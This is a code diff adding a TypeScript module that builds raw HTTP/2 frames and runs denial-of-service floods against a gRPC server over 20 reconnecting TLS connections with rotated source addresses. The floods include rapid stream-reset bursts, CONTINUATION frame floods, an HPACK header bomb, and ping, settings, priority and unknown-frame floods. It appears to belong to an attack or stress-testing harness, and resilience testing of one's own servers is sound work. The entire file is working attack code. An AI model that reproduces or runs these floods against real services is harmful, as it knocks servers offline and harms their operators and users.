@@ -1,0 +1,109 @@
+import { crowd, type Attack } from './attack.ts';
+import { addressOf, isOpened, open, write } from './connection.ts';
+import { methods } from './grpc.ts';
+
+const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
+
+/** Types of frames (RFC 9113, section 6). */
+const types = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 };
+const flags = { endStream: 1, endHeaders: 4 };
+
+function frame(type: number, flag: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head.writeUInt8(type, 3);
+  head.writeUInt8(flag, 4);
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+/** A header that is not put into the table of HPACK (RFC 7541, section 6.2.2); short. */
+function literal(name: string, value: string): Buffer {
+  const part = (text: string) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);
+  return Buffer.concat([Buffer.from([0]), part(name), part(value)]);
+}
+
+const call = Buffer.concat([
+  Buffer.from([0x83, 0x87]), // :method POST, :scheme https
+  literal(':path', methods.list),
+  literal(':authority', 'localhost'),
+  literal('content-type', 'application/grpc'),
+  literal('te', 'trailers'),
+]);
+
+/** Puts a header of 4,000 bytes into the table, and then names it again and again: an index of one byte each. */
+const headerBomb = Buffer.concat([
+  Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), // x: 127 + 3873 bytes
+  Buffer.alloc(4_000, 'y'),
+  Buffer.alloc(12_000, 0xbe),
+]);
+
+/** What is sent on a connection again and again, by the number of the turn. */
+type Flood = (turn: number) => Buffer;
+
+const repeated = (times: number, one: Buffer): Flood => {
+  const many = Buffer.concat(Array.from({ length: times }, () => one));
+  return () => many;
+};
+
+/** Frames of many streams, each with the next odd number. */
+const streams =
+  (count: number, of: (stream: number) => Buffer): Flood =>
+  (turn) =>
+    Buffer.concat(Array.from({ length: count }, (_, at) => of(2 * (turn * count + at) + 1)));
+
+const four = (value: number) => {
+  const bytes = Buffer.alloc(4);
+  bytes.writeUInt32BE(value);
+  return bytes;
+};
+
+const floods = {
+  pings: repeated(1_000, frame(types.ping, 0, 0, Buffer.alloc(8))),
+  settings: repeated(1_000, frame(types.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff]))),
+  resets: streams(500, (stream) =>
+    Buffer.concat([frame(types.headers, flags.endHeaders, stream, call), frame(types.reset, 0, stream, four(8))]),
+  ),
+  calls: streams(500, (stream) => frame(types.headers, flags.endHeaders + flags.endStream, stream, call)),
+  continuations: (turn: number) =>
+    Buffer.concat([
+      ...(turn === 0 ? [frame(types.headers, 0, 1, call)] : []),
+      ...Array.from({ length: 200 }, () => frame(types.continuation, 0, 1, literal('x', 'y'.repeat(100)))),
+    ]),
+  emptyContinuations: (turn: number) =>
+    Buffer.concat([
+      ...(turn === 0 ? [frame(types.headers, 0, 1, call)] : []),
+      ...Array.from({ length: 1_000 }, () => frame(types.continuation, 0, 1)),
+    ]),
+  emptyData: (turn: number) =>
+    Buffer.concat([
+      ...(turn === 0 ? [frame(types.headers, flags.endHeaders, 1, call)] : []),
+      ...Array.from({ length: 1_000 }, () => frame(types.data, 0, 1)),
+    ]),
+  headerBombs: streams(5, (stream) =>
+    frame(types.headers, flags.endHeaders, stream, Buffer.concat([call, headerBomb])),
+  ),
+  windowUpdates: repeated(1_000, frame(types.windowUpdate, 0, 0, four(1))),
+  priorities: streams(1_000, (stream) => frame(types.priority, 0, stream, Buffer.concat([four(0), Buffer.from([1])]))),
+  unknown: repeated(1_000, frame(0xbb, 0, 0, Buffer.alloc(16))),
+} as const;
+
+/** Kinds of floods of HTTP/2 frames. */
+export type FloodName = keyof typeof floods;
+
+/** Floods of frames over 20 connections to gRPC; those that are closed are opened again. */
+export function frameFlood(...names: readonly FloodName[]): (attack: Attack) => Promise<void> {
+  return async (attack) => {
+    const { target, tally, signal } = attack;
+    await crowd(attack, 20, async (number, round) => {
+      const name = names[(number + round) % names.length] ?? 'pings';
+      const socket = open({ port: target.ports.grpc, tls: 'h2', from: addressOf(number % 5) });
+      if (await isOpened(socket, 'secureConnect')) {
+        await write(socket, Buffer.concat([preface, frame(types.settings, 0, 0)]));
+        for (let turn = 0; !signal.aborted && (await write(socket, floods[name](turn))); turn++) tally.add(name);
+        tally.add('closed');
+      }
+      socket.destroy();
+    });
+  };
+}
